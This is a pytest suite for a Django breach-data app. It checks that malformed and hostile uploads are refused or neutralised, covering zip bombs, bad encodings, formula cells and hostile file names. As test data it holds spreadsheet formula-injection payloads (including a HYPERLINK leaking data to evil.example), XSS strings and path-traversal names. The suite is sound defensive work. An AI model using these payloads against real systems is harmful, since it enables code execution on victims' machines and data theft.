"""A corpus of malformed uploads, each sent through the admin upload workflow (as a data
editor) and through `manage.py import_figures` / `import_incidents`: each is answered with a
message that names what is wrong, and leaves every table of the breaches app as it was.

The files are built in memory (tests/hostile/builders.py); none is committed.
"""

from __future__ import annotations

import csv
import functools
import io
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import hypothesis
import pytest
from bs4 import BeautifulSoup
from django.apps import apps
from django.contrib.auth.models import Group, User
from django.core.cache import cache
from django.core.management import CommandError, call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from breaches.imports.reference import Reference
from breaches.imports.validation import parse
from breaches.models import (
    Figure,
    ImportBatch,
    Incident,
    StagedPreview,
    StagedPreviewPage,
    StagedUpload,
)
from breaches.versions import data_version

from . import builders as b
from .profiles import examples

pytestmark = pytest.mark.django_db

ADD = "admin:breaches_importbatch_add"
CONFIRM = "admin:breaches_importbatch_confirm"
# Per route: a hostile file is refused quickly, it never hangs the server. Measured in CPU
# seconds of this process (the app runs in it, through the test client): on a shared two-core
# machine running two test workers, wall time measures the neighbours. A wait that uses no CPU
# (a lock, say) is caught by the wall-clock limit, set far above any busy machine's time.
LIMIT_SECONDS = 30
WALL_LIMIT_SECONDS = 180


class Stopwatch:
    def __enter__(self):
        self.cpu, self.wall = time.process_time(), time.monotonic()
        return self

    def __exit__(self, *exc):
        self.cpu, self.wall = time.process_time() - self.cpu, time.monotonic() - self.wall

    def check(self, case_id: str) -> None:
        assert self.cpu < LIMIT_SECONDS, f"{case_id} took {self.cpu:.1f} CPU seconds"
        assert self.wall < WALL_LIMIT_SECONDS, f"{case_id} took {self.wall:.1f} s"


def snapshot():
    """Every row of every data table in the breaches app (withdrawn rows included); previewed
    files waiting for confirm are not data."""
    return {
        model.__name__: list(model._base_manager.order_by("pk").values_list())
        for model in apps.get_app_config("breaches").get_models()
        if model not in (StagedUpload, StagedPreview, StagedPreviewPage)
    }


def text(response) -> str:
    return " ".join(BeautifulSoup(response.content, "html.parser").get_text().split())


def token_of(response) -> str:
    return BeautifulSoup(response.content, "html.parser").find("input", {"name": "token"})["value"]


@pytest.fixture
def editor(client):
    user = User.objects.create_user("hostile-editor", is_staff=True)
    user.groups.add(Group.objects.get(name="Data editors"))
    client.force_login(user)
    return user


# --- The corpus ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One malformed upload and what both routes must say about it."""

    build: Callable[[], bytes]
    expected: tuple[str, ...]  # fragments of the message, on the preview and from the command
    name: str = "return.csv"
    kind: str = "figures"
    sheet: str | None = None
    form_error: bool = False  # refused by the upload form, before any preview
    command_expected: tuple[str, ...] | None = None  # when the command words it differently
    command: bool = True  # False when only the admin route applies


# A row with every cell filled in: a file that starts with it has no header row.
FULL_ROW = b.figure_row(
    category="pnc-misuse",
    outcome="dismissed",
    role="officer",
    status="disclosed",
    source_publisher="Surrey Constabulary",
    source_date="2016-07-01",
    source_url="https://example.org/foi",
    note="A note",
)


def _csv(*rows) -> bytes:
    return b.csv_text(rows).encode()


def _ten_mb_line() -> bytes:
    header = b.csv_text([b.FIGURE_HEADER]).encode()
    row = b.csv_text([b.figure_row(note="")]).encode().rstrip(b"\n")
    return header + row + b"x" * (10 * 1024 * 1024 - len(header) - len(row) - 64) + b"\n"


def _ten_mb_without_separator() -> bytes:
    return b"dataset" + b"x" * (10 * 1024 * 1024 - 64)


def _mixed_encodings() -> bytes:
    utf8 = b.csv_text([b.FIGURE_HEADER, b.figure_row(note="Restated – see caveat")]).encode()
    cp1252 = b.csv_text([b.figure_row(force="Sussex Police", note="Cost £5")]).encode("cp1252")
    return utf8 + cp1252


def _utf16() -> bytes:
    return b.csv_text([b.FIGURE_HEADER, b.figure_row()], delimiter="\t").encode("utf-16")


def _million_blank_lines() -> bytes:
    return b.csv_text([b.FIGURE_HEADER]).encode() + b"\n" * 1_000_000


def _million_empty_rows() -> bytes:
    bad = b.csv_text([b.figure_row(count="lots")]).encode()
    return b.csv_text([b.FIGURE_HEADER]).encode() + b",,,,,,,\r\n" * 1_000_000 + bad


def _xlsx_million_rows() -> bytes:
    """A sheet whose header is row 1 and whose only data row is the last row Excel has."""
    rows = b.inline_row(1, b.FIGURE_HEADER) + b.inline_row(1_048_576, b.figure_row(count="lots"))
    return b.replace_member(
        b.figures_xlsx(), "xl/worksheets/sheet1.xml", b.sheet_xml(rows, "A1:N1048576")
    )


def _formula_xlsx() -> bytes:
    """Real formula cells, as openpyxl writes them: no cached value, so nothing to read."""
    return b.figures_xlsx(
        b.figure_row(dataset="=cmd|' /C calc'!A0", count="=SUM(1,1)"),
    )


def _wrong_types_xlsx() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "figures"
    sheet.append(b.FIGURE_HEADER)
    # period_start a boolean, period_end negative, count a fraction, source_date a serial far
    # past 9999-12-31, source_url a number.
    values = {"period_start": True, "period_end": -5, "count": 1.5, "source_date": 3e6}
    sheet.append([values.get(c, v) for c, v in zip(b.FIGURE_HEADER, b.figure_row(), strict=True)])
    sheet["M2"] = 42
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _workbook_with_a_bad_row() -> bytes:
    return b.xlsx(("figures", [b.FIGURE_HEADER, b.figure_row(count="lots")]))


def _nul_after_4kb() -> bytes:
    padding = b.figure_row(force="Sussex Police", note="n" * 4500)
    return _csv(b.FIGURE_HEADER, padding, b.figure_row(source_title="FOI\x00answer"))


CASES = {
    # Damaged and disguised workbooks.
    "truncated-xlsx": Case(
        lambda: b.truncated(b.figures_xlsx(b.figure_row())),
        ("The file is not a readable XLSX workbook",),
        name="return.xlsx",
    ),
    "truncated-xlsx-last-bytes": Case(
        lambda: b.truncated(b.figures_xlsx(b.figure_row()), 0.995),
        ("The file is not a readable XLSX workbook",),
        name="return.xlsx",
    ),
    "xlsx-damaged-sheet-part": Case(
        lambda: b.corrupt_member(b.figures_xlsx(b.figure_row())),
        ("The file is not a readable XLSX workbook",),
        name="return.xlsx",
    ),
    "xlsx-damaged-workbook-part": Case(
        lambda: b.corrupt_member(b.figures_xlsx(b.figure_row()), "xl/workbook.xml"),
        ("The file is not a readable XLSX workbook",),
        name="return.xlsx",
    ),
    "password-protected-xlsx": Case(
        b.encrypted_xlsx, ("password-protected", "remove the password"), name="return.xlsx"
    ),
    "password-protected-xlsx-named-csv": Case(
        b.encrypted_xlsx, ("password-protected", "remove the password"), name="return.csv"
    ),
    "old-xls-named-xlsx": Case(b.legacy_xls, ("old Excel .xls workbook",), name="return.xlsx"),
    "decompression-bomb": Case(
        b.zip_bomb, ("would expand 1,029 times", "decompression bomb"), name="bomb.xlsx"
    ),
    "decompression-bomb-lying-directory": Case(
        b.lying_zip_bomb, ("The file is not a readable XLSX workbook", "CRC"), name="bomb.xlsx"
    ),
    "zip-of-10001-parts": Case(
        b.many_parts, ("The workbook has 10001 parts; at most 10000",), name="parts.xlsx"
    ),
    "zip-expanding-to-400-mb": Case(
        b.huge_declared_total, ("would expand to 400 MB (at most 300 MB)",), name="big.xlsx"
    ),
    "xlsx-that-is-a-csv": Case(
        lambda: b.figures_csv(b.figure_row()),
        ("The file is not a readable XLSX workbook",),
        name="return.xlsx",
    ),
    "no-such-sheet": Case(
        _workbook_with_a_bad_row,
        ("The workbook has no sheet 'Nope' (sheets: figures)",),
        "r.xlsx",
        sheet="Nope",
    ),
    # Not text, or not one text encoding.
    "binary-garbage": Case(b.garbage, ("not a CSV or XLSX file (it contains binary data)",)),
    "garbage-without-nul-bytes": Case(
        b.high_garbage, ("The file is neither UTF-8 nor Windows-1252 text (byte 0)",)
    ),
    "png-named-csv": Case(b.png, ("not a CSV or XLSX file (it contains binary data)",)),
    "mixed-encodings": Case(
        _mixed_encodings, ("mixes text encodings", "line 3 is not UTF-8", "line 2 is UTF-8")
    ),
    "utf-16-text": Case(_utf16, ("UTF-16", "CSV UTF-8")),
    "nul-byte-after-4-kb": Case(
        _nul_after_4kb, ("source_title", "contains the invisible character U+0000")
    ),
    # Sizes and shapes.
    "csv-with-a-10-mb-line": Case(
        _ten_mb_line, ("The file is not valid CSV (line 2: field larger than field limit",)
    ),
    "10-mb-without-a-separator": Case(
        _ten_mb_without_separator, ("not a CSV file with a header row: no comma, semicolon",)
    ),
    "a-million-blank-lines": Case(
        _million_blank_lines, ("the file has a header but no data rows",)
    ),
    "a-million-empty-rows-then-a-bad-one": Case(
        _million_empty_rows, ("1000002", "count is not a number", "lots")
    ),
    "xlsx-claiming-a-million-rows": Case(
        _xlsx_million_rows, ("1048576", "count is not a number", "lots"), name="return.xlsx"
    ),
    "zero-byte-file": Case(
        lambda: b"",
        ("The submitted file is empty",),
        form_error=True,
        command_expected=("The file is empty",),
    ),
    "bom-only": Case(lambda: b"\xef\xbb\xbf", ("The file is empty",)),
    "header-only": Case(lambda: _csv(b.FIGURE_HEADER), ("the file has a header but no data rows",)),
    "101-columns": Case(
        lambda: _csv([f"c{i}" for i in range(101)]), ("The header has 101 columns; at most 100",)
    ),
    # Headers.
    "duplicate-headers": Case(
        lambda: _csv([*b.FIGURE_HEADER, "count"], b.figure_row()),
        ("The column 'count' appears twice in the header",),
    ),
    "missing-header-row": Case(
        lambda: _csv(FULL_ROW, FULL_ROW),
        ("The header names neither a figures file (it needs a 'count' column)",),
        command_expected=("missing column(s): dataset, force", "unknown column(s): bbw-2016"),
    ),
    "missing-columns": Case(
        lambda: _csv(["dataset", "force", "count"], ["bbw-2016", "Surrey Police", "5"]),
        ("missing column(s): period_start, period_end, source_title",),
    ),
    "blank-column-name": Case(
        lambda: _csv(["dataset", "", "count"], ["bbw-2016", "x", "5"]),
        ("A column in the header row has no name",),
    ),
    "neither-figures-nor-incidents": Case(
        lambda: _csv(["name", "age"], ["bob", "5"]),
        ("The header names neither a figures file",),
        command_expected=("missing column(s): dataset, force",),
    ),
    "pipe-separated": Case(
        lambda: b.csv_text([b.FIGURE_HEADER, b.figure_row()], delimiter="|").encode(),
        ("not a CSV file with a header row: no comma, semicolon or tab",),
    ),
    "malformed-quoting": Case(
        lambda: b.csv_text([b.FIGURE_HEADER]).encode() + b'bbw-2016,"Surrey"Police",x\n',
        ("The file is not valid CSV (line 2:",),
    ),
    "extra-cells": Case(
        lambda: _csv(b.FIGURE_HEADER, [*b.figure_row(), "surprise"]),
        ("the row has more cells than the header has columns", "surprise"),
    ),
    # Every field type wrong.
    "wrong-dates": Case(
        lambda: _csv(
            b.FIGURE_HEADER,
            b.figure_row(period_start="31/02/2015"),
            b.figure_row(force="Sussex", period_start="2015-13-01"),
            b.figure_row(force="Kent", period_start="yesterday"),
            b.figure_row(force="Dorset", period_end="44196"),
            b.figure_row(force="Essex", period_start="2016-01-01"),
            b.figure_row(force="Gwent", source_date="soon"),
        ),
        (
            "period start is not a real date",
            "period start is not a date: use YYYY-MM-DD or DD/MM/YYYY",
            "yesterday",
            "period end is not a date",
            "44196",
            "period end is before period start",
            "source date is not a date",
        ),
    ),
    "wrong-counts": Case(
        lambda: _csv(
            b.FIGURE_HEADER,
            b.figure_row(count="-3"),
            b.figure_row(force="Sussex", count="1.5"),
            b.figure_row(force="Kent", count="1,5"),
            b.figure_row(force="Dorset", count="five"),
            b.figure_row(force="Essex", count="1e999999999"),
            b.figure_row(force="Gwent", count="NaN"),
            b.figure_row(force="Suffolk", count="=1+1"),
            b.figure_row(force="Norfolk", count="", status="disclosed"),
            b.figure_row(force="Cheshire", count="5", status="refused"),
        ),
        (
            "count cannot be negative",
            "count is not a whole number",
            "commas may only separate thousands",
            "count is not a number",
            "count is too large",
            "NaN",
            "=1+1",
            "the status says disclosed but the count is blank",
            "a count is given but the status says 'refused'",
        ),
    ),
    "wrong-codes": Case(
        lambda: _csv(
            b.FIGURE_HEADER,
            b.figure_row(category="gossip"),
            b.figure_row(force="Sussex", outcome="promoted"),
            b.figure_row(force="Kent", role="mascot"),
            b.figure_row(force="Dorset", count="", status="lost-it"),
            b.figure_row(force="Essex", dataset="bbw-2061"),
            b.figure_row(force="Surey Police"),
        ),
        (
            "unknown category; use one of",
            "unknown outcome; use one of",
            "unknown role; use one of",
            "unknown status; use one of",
            "unknown dataset",
            "unknown force",
        ),
    ),
    "wrong-urls": Case(
        lambda: _csv(
            b.FIGURE_HEADER,
            b.figure_row(source_url="javascript:alert(1)"),
            b.figure_row(force="Sussex", source_url="ftp://example.org/a.csv"),
            b.figure_row(force="Kent", source_url="http://exa mple.org/"),
            b.figure_row(force="Dorset", source_url="www.example.org"),
        ),
        (
            "source url is not a web address starting with http:// or https://",
            "javascript:alert(1)",
            "ftp://example.org/a.csv",
            "www.example.org",
        ),
    ),
    "wrong-types-in-xlsx-cells": Case(
        _wrong_types_xlsx,
        (
            "period start is not a date",
            "period end is not a date",
            "count is not a whole number",
            "source date is not a date",
            "source url is not a web address",
        ),
        name="return.xlsx",
    ),
    "formula-cells-without-values": Case(
        _formula_xlsx,
        ("dataset is required", "count and status are both blank"),
        name="return.xlsx",
    ),
    "wrong-incident-fields": Case(
        lambda: b.incidents_csv(
            b.incident_row(occurred_on="2015-03-01", outcome_date="2015-02-01"),
            b.incident_row(reference="R" * 101),
            b.incident_row(reference="PSD-3", outcome="dismissed; knighted"),
            b.incident_row(reference="PSD-4", force=""),
        ),
        (
            "outcome date is before the date the incident occurred",
            "reference is longer than 100 characters",
            "unknown outcome 'knighted'",
            "force is required",
        ),
        kind="incidents",
    ),
    # Hostile text.
    "control-characters": Case(
        lambda: _csv(
            b.FIGURE_HEADER,
            b.figure_row(note="bell\x07 and escape \x1b[31m red"),
            b.figure_row(force="Sussex Police", source_publisher="back\x08space"),
        ),
        (
            "note contains the invisible character U+0007",
            "source publisher contains the invisible character U+0008",
        ),
    ),
    "right-to-left-override": Case(
        lambda: _csv(
            b.FIGURE_HEADER,
            b.figure_row(force="Surrey\u202e Police"),
            b.figure_row(force="Sussex Police", note="txt.\u202eexe"),
        ),
        ("U+202E (RIGHT-TO-LEFT OVERRIDE)", "force contains", "note contains"),
    ),
    "extremely-long-cells": Case(
        lambda: _csv(
            b.FIGURE_HEADER,
            b.figure_row(note="n" * 5001),
            b.figure_row(force="Sussex Police", source_title="t" * 501),
            b.figure_row(force="f" * 100_000),
        ),
        (
            "note is longer than 5000 characters",
            "source title is longer than 500 characters",
            "unknown force",
        ),
    ),
    # Hostile file names (with content that is wrong too, so nothing may be saved).
    "path-traversal-file-name": Case(
        lambda: b.figures_csv(b.figure_row(count="lots")),
        ("Preview of passwd.csv", "count is not a number"),
        name="../../etc/passwd.csv",
        command_expected=("count is not a number",),
    ),
    "html-in-file-name": Case(
        lambda: b.figures_csv(b.figure_row(count="lots")),
        ("Preview of <img src=x onerror=alert(1)>.csv", "count is not a number"),
        name="<img src=x onerror=alert(1)>.csv",
        command_expected=("count is not a number",),
    ),
    "html-in-sheet-names": Case(
        lambda: b.xlsx(
            ("<img src=x onerror=alert(1)>", [b.FIGURE_HEADER, b.figure_row(count="lots")]),
            ("figures", [b.FIGURE_HEADER, b.figure_row()]),
        ),
        ("count is not a number", "lots", "Sheet: <img src=x onerror=alert(1)>"),
        name="return.xlsx",
        command_expected=("count is not a number", "lots"),
    ),
    "not-a-spreadsheet-extension": Case(
        lambda: b.figures_csv(b.figure_row()),
        ("Upload a .csv or .xlsx file",),
        name="return.csv.exe",
        form_error=True,
        command=False,  # the command reads any path it is given
    ),
}


@functools.cache
def content(case_id: str) -> bytes:
    return CASES[case_id].build()


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 30


def _upload(client, case: Case, data: bytes):
    url = reverse(ADD)
    if "/" not in case.name and "\\" not in case.name:
        file = io.BytesIO(data)
        file.name = case.name
        return client.post(url, {"file": file})
    # The test client strips folders from file names; a browser or a script need not.
    boundary = b.random_boundary()
    body = b.multipart("file", case.name, data, boundary)
    return client.generic(
        "POST", url, body, content_type=f"multipart/form-data; boundary={boundary}"
    )


@pytest.mark.parametrize("case_id", list(CASES))
def test_admin_upload_names_the_problem_and_saves_nothing(client, editor, case_id):
    case, data = CASES[case_id], content(case_id)
    before = snapshot()
    with Stopwatch() as took:
        response, page, preview = _upload_and_preview(client, case, data)
    for fragment in case.expected:
        assert fragment in page, f"{fragment!r} not in {page[:3000]!r}"
    took.check(case_id)
    assert snapshot() == before
    assert b"<img src=x" not in (response.content + (b"" if case.form_error else preview.content))


def _upload_and_preview(client, case, data):
    """Upload as an editor; unless the form refuses it, open its preview and try to confirm."""
    preview = None
    response = _upload(client, case, data)
    if case.form_error:
        assert response.status_code == 200
        page = text(response)
        assert not StagedUpload.objects.exists()
    else:
        assert response.status_code == 302, text(response)[:500]
        preview = client.get(response["Location"])
        if case.sheet:  # the sheet form reads another sheet
            check = reverse("admin:breaches_importbatch_check")
            chosen = {"token": token_of(preview), "sheet": case.sheet}
            preview = client.post(check, chosen, follow=True)
        assert preview.status_code == 200
        page = text(preview)
        assert b"confirm-import" not in preview.content
        # Even a hand-made confirm of the previewed file is refused.
        confirm = {
            "token": token_of(preview),
            "version": data_version(),
            **({"sheet": case.sheet} if case.sheet else {}),
        }
        assert client.post(reverse(CONFIRM), confirm).status_code == 400
    return response, page, preview


@pytest.mark.parametrize("case_id", [c for c in CASES if CASES[c].command])
def test_import_command_names_the_problem_and_saves_nothing(tmp_path, case_id):
    case, data = CASES[case_id], content(case_id)
    path = tmp_path / case.name.replace("/", "_")
    path.write_bytes(data)
    options = {"sheet": case.sheet} if case.sheet else {}
    before = snapshot()
    stderr = io.StringIO()
    with Stopwatch() as took, pytest.raises(CommandError) as refused:
        call_command(
            f"import_{case.kind}", str(path), stdout=io.StringIO(), stderr=stderr, **options
        )
    output = stderr.getvalue() + str(refused.value)
    for fragment in case.command_expected or case.expected:
        assert fragment in output, f"{fragment!r} not in {output[:3000]!r}"
    assert "nothing imported" in str(refused.value)
    took.check(case_id)
    assert snapshot() == before


# --- Valid files with hostile text: stored as inert text, shown escaped, exported neutralised


FORMULAS = {
    "note": "=cmd|' /C calc'!A0",
    "source_title": '=HYPERLINK("http://evil.example/?leak="&A1,"Source")',
    "source_publisher": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _formula_file(kind: str) -> tuple[bytes, str]:
    row = b.figure_row(**FORMULAS)
    if kind == "csv":
        return b.figures_csv(row), "formulas.csv"
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(b.FIGURE_HEADER)
    sheet.append(row)
    for cell in sheet[2]:
        cell.data_type = "s"  # typed as text (as Excel stores '=... entered as text)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue(), "formulas.xlsx"


def _confirm(client, data: bytes, name: str):
    file = io.BytesIO(data)
    file.name = name
    uploaded = client.post(reverse(ADD), {"file": file})
    preview = client.get(uploaded["Location"])
    assert b"confirm-import" in preview.content, text(preview)[:2000]
    done = client.post(reverse(CONFIRM), {"token": token_of(preview), "version": data_version()})
    assert done.status_code == 302
    return preview, done


def _body(response) -> bytes:
    # Incident downloads stream (dashboard/incidents/); the others come whole.
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_cells(response) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))) for cell in row
    ]


def _xlsx_cells(response) -> list:
    workbook = load_workbook(io.BytesIO(_body(response)))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_are_stored_as_text_and_exported_neutralised(client, editor, kind, settings):
    settings.EXPORT_RATE_LIMIT = (10_000, 600)
    cache.clear()
    data, name = _formula_file(kind)
    _confirm(client, data, name)
    surrey = Figure.objects.select_related("source").get(
        dataset__slug="bbw-2016",
        force__name="Surrey Police",
        category=None,
        outcome=None,
        role=None,
    )
    assert surrey.count == 203
    assert surrey.note == FORMULAS["note"]
    assert surrey.source.title == FORMULAS["source_title"]
    assert surrey.source.publisher == FORMULAS["source_publisher"]

    formulas = set(FORMULAS.values())
    for url in (
        "/figures/?force=surrey&_export=csv",
        "/league/?dataset=bbw-2016&_export=csv",
        "/charts/data.csv?v=1&chart=league&dataset=bbw-2016",
    ):
        cells = _csv_cells(client.get(url))
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], url
        assert any(c.startswith("'=") or c.startswith("'@") for c in cells), url
    for url in ("/figures/?force=surrey&_export=xlsx", "/league/?dataset=bbw-2016&_export=xlsx"):
        cells = _xlsx_cells(client.get(url))
        assert not [c for c in cells if c.data_type == "f"], url
        assert not [c for c in cells if isinstance(c.value, str) and c.value in formulas], url
        assert any(isinstance(c.value, str) and c.value.startswith("'=") for c in cells), url
    # A pinned chart of the restated league keeps the text, neutralised, in its CSV too.
    pinned = client.post("/charts/pin", {"v": "1", "chart": "league", "dataset": "bbw-2016"})
    if pinned.status_code == 302:
        cells = _csv_cells(client.get(pinned["Location"] + "data.csv"))
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    # The page shows the note as text.
    page = client.get("/forces/surrey/")
    assert "=cmd|&#x27; /C calc&#x27;!A0" in page.content.decode()


def test_incident_formulas_are_exported_neutralised(client, editor, settings):
    settings.EXPORT_RATE_LIMIT = (10_000, 600)
    cache.clear()
    summary = '=HYPERLINK("http://evil.example/","Click")'
    _confirm(client, b.incidents_csv(b.incident_row(summary=summary)), "incidents.csv")
    assert Incident.objects.get(reference="PSD-HOSTILE-1").summary == summary
    cells = _csv_cells(client.get("/incidents/?_export=csv"))
    assert "'" + summary in cells
    assert summary not in cells


HOSTILE_NAMES = [
    ("<img src=x onerror=alert(1)>.csv", "<img src=x onerror=alert(1)>.csv"),
    ("../../etc/passwd.csv", "passwd.csv"),
    ("..\\..\\windows\\system.ini.csv", "system.ini.csv"),
    ("\u202eexcel.csv", "excel.csv"),
]


@pytest.mark.parametrize(("sent", "shown"), HOSTILE_NAMES)
def test_hostile_file_names_are_escaped_wherever_shown(client, editor, sent, shown):
    data = b.figures_csv(b.figure_row())
    boundary = b.random_boundary()
    uploaded = client.generic(
        "POST",
        reverse(ADD),
        b.multipart("file", sent, data, boundary),
        content_type=f"multipart/form-data; boundary={boundary}",
    )
    assert uploaded.status_code == 302
    [staged] = StagedUpload.objects.all()
    assert staged.file_name == shown
    preview = client.get(uploaded["Location"])
    done = client.post(
        reverse(CONFIRM), {"token": token_of(preview), "version": data_version()}, follow=True
    )
    batch = ImportBatch.objects.get(uploaded_by=editor)
    assert batch.file_name == shown
    pages = {
        "preview": preview,
        "confirmed": done,
        "batch": client.get(reverse("admin:breaches_importbatch_change", args=[batch.pk])),
        "history": client.get(reverse("admin:breaches_importbatch_changelist")),
    }
    for where, page in pages.items():
        assert page.status_code == 200, where
        assert shown in text(page), where
        assert b"<img src=x" not in page.content, where
        assert b"etc/passwd" not in page.content, where
        assert "\u202e" not in page.content.decode(), where
    download = client.get(reverse("admin:breaches_importbatch_original", args=[batch.pk]))
    assert download.content == data
    assert download["Content-Disposition"] == f'attachment; filename="{shown}"'


# --- Any damage to a real file: parse() answers with problems, it never raises --------------


def _sheet_part(workbook: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


SEED_ROWS = [b.figure_row(), b.figure_row(force="Kent Police", count="7", note="A note")]
SEED_XLSX = b.figures_xlsx(*SEED_ROWS)
SEEDS = {
    "return.csv": b.figures_csv(*SEED_ROWS),
    "return.xlsx": SEED_XLSX,
    "sheet.xlsx": _sheet_part(SEED_XLSX),  # mutated as XML, then put back into the workbook
}


@st.composite
def damaged_files(draw) -> tuple[str, bytes]:
    name = draw(st.sampled_from(sorted(SEEDS)))
    data = bytearray(SEEDS[name])
    for _ in range(draw(st.integers(1, 6))):
        at = draw(st.integers(0, len(data)))
        action = draw(st.sampled_from(["flip", "insert", "delete", "cut", "repeat"]))
        if action == "flip" and at < len(data):
            data[at] = draw(st.integers(0, 255))
        elif action == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=16))
        elif action == "delete":
            del data[at : at + draw(st.integers(1, 64))]
        elif action == "cut":
            del data[at:]
        elif action == "repeat":
            data[at:at] = data[at : at + 32] * draw(st.integers(2, 50))
    if name == "sheet.xlsx":
        return "return.xlsx", b.replace_member(SEED_XLSX, "xl/worksheets/sheet1.xml", bytes(data))
    return name, bytes(data)


def test_parsing_a_damaged_file_never_raises():
    reference = Reference.load()
    seen = {"valid": 0, "refused": 0}

    @hypothesis.settings(max_examples=examples(ci=250))  # the rest from the loaded profile
    @given(damaged_files())
    def answers_with_problems(damaged):
        name, data = damaged
        validation = parse(data, name, reference)
        assert validation.ok or validation.errors
        seen["refused" if validation.errors else "valid"] += 1

    answers_with_problems()
    assert seen["refused"] > 0
